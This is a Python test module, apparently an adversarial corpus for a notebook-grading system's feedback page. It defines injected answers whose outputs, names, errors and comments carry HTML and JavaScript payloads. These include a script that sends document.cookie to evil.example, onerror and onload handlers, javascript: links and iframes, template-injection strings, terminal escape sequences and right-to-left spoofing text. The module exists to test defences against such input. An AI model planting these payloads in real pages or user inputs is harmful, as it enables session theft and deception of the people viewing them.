"""Attacks on whoever looks: scripts, styles and control characters towards the feedback page."""

from __future__ import annotations

from corpus.attack import Attack

SCRIPT = "<script>fetch('//evil.example/'+document.cookie)</script>"
IMAGE = "<img src=x onerror=alert(1)>"


def _out(name: str, what: str, question: str, source: str) -> Attack:
    return Attack(name, what, answers={question: source}, together="showing")


ATTACKS = (
    _out("html_output", "a cell's result is HTML with a script", "q1_01",
        f"from IPython.display import HTML, display\ndisplay(HTML({SCRIPT + IMAGE!r}))\ntotal_touch = HTML({IMAGE!r})"),
    _out("javascript_output", "outputs of type JavaScript, SVG with onload, and iframes", "q1_02",
        "from IPython.display import Javascript, SVG, IFrame, display\n"
        "display(Javascript('alert(1)')); display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"></svg>')); display(IFrame('https://evil.example', 5, 5))"),
    _out("html_in_an_answer", "an answer of HTML that closes what it stands in", "q1_06",
        f"bottleneck = capacity = {'</pre></textarea></title></style></template>' + SCRIPT + IMAGE!r}"),
    _out("html_in_a_name", "a class, an error and a variable named as HTML", "q1_07",
        f"people_inside = lead_needed = type({SCRIPT!r}, (), {{}})()\nraise type({IMAGE!r}, (ValueError,), {{}})({SCRIPT!r})"),
    _out("html_in_a_missing_name", "errors whose message is HTML", "q1_09", f"raise NameError({'name ' + repr(IMAGE) + ' is not defined'!r})"),
    _out("html_as_a_key", "a table whose keys and values are HTML", "q1_03", f"va_class = {{{SCRIPT!r}: {IMAGE!r}, 'S1': {IMAGE!r}}}"),
    _out("html_from_a_function", "a function that returns HTML, and raises an error named as HTML", "q1_05",
        f"def utilization(lam, *a):\n    if lam > 20: raise type({SCRIPT!r}, (Exception,), {{}})\n    return {IMAGE!r}"),
    _out("ansi_escapes", "escape sequences that clear, colour and retitle a terminal", "q1_10",
        "print('\\x1b[2J\\x1b]0;owned\\x07\\x1b[31m\\x9b5m\\x1b]52;c;ZXZpbA==\\x07' * 3)\nlead_future = saving_pct = '\\x1b[2J\\x1b]0;owned\\x07'"),
    _out("text_that_turns", "right-to-left overrides, a bell, a form feed and 3,000 combining marks", "q1_08",
        "worst_step = wait_by_step = '\\u202e\\u2066txt.exe\\x07\\x0c' + 'ก' + '\\u0e49' * 3000\nraise ValueError(worst_step)"),
    _out("html_in_a_comment", "scripts in the source of an answer", "q1_04", f"# -->{SCRIPT}<!-- ]]> {{{{ 7*7 }}}} {{% include 'secret' %}}\nchain = 1"),
    _out("html_in_the_written_task", "scripts, styles and javascript: links in the written answer", "q1_m",
        f"{SCRIPT}\n\n[click](javascript:alert(1)) ![x](https://evil.example/x.png)\n\n<style>*{{display:none}}</style>\n\n<iframe src='https://evil.example'></iframe>"),
    Attack("widgets_and_comms", "widget state, comms and payloads that set the next input",
        answers={"q1_01": "import ipywidgets\nfrom IPython.display import display\nfrom ipykernel.comm import Comm\n"
                 f"display(ipywidgets.HTML({SCRIPT!r})); Comm('x', data={{'html': {SCRIPT!r}}})\n"
                 "get_ipython().set_next_input('alert(1)'); get_ipython().payload_manager.write_payload({'source': 'ask_exit'})"}),
)  # fmt: skip
